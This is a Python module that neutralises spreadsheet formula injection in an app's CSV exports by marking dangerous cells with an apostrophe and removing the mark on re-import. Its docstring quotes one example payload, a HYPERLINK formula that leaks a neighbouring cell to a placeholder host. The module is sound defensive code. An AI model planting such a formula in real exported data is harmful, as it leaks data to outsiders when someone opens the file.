"""Cells that are safe to open in a spreadsheet, and back: one rule for every CSV the app writes.

A spreadsheet program runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
return before one) as a formula: a venue named `=HYPERLINK("http://x.example/?leak="&A2,"Click")`
would send the next cell to a stranger's website when an admin opens the export. So every CSV
the app writes (the venue export, the reports) passes its cells through `safe_cell`, which puts
an apostrophe in front of such a text: spreadsheets show it as plain text.

The rule, so that an exported file imported again gives back the same values (`unsafe_cell`):
- writing: a text that starts with one of those characters, or with apostrophes followed by one
  of them, gets one more apostrophe in front. Plain numbers ("-1.548", "+3") are left as they
  are: they are not formulas, and longitudes would otherwise turn into text;
- reading: a cell that starts with apostrophes followed by one of those characters loses one
  apostrophe (a spreadsheet's own text marker, "'-1.5", goes the same way). Any other leading
  apostrophe ("'Tis the season") is kept as typed.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_MARKED = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")


def needs_mark(value: str) -> bool:
    if _NUMBER.fullmatch(value):
        return False
    return value.startswith(FORMULA_START) or _MARKED.match(value) is not None


def safe_cell(value: object) -> object:
    """`value` as a spreadsheet will show it, never run it (texts only; other values unchanged)."""
    if isinstance(value, str) and needs_mark(value):
        return "'" + value
    return value


def unsafe_cell(value: str) -> str:
    """A cell read back from a CSV: the apostrophe `safe_cell` added is taken off again."""
    if _MARKED.match(value):
        return value[1:]
    return value
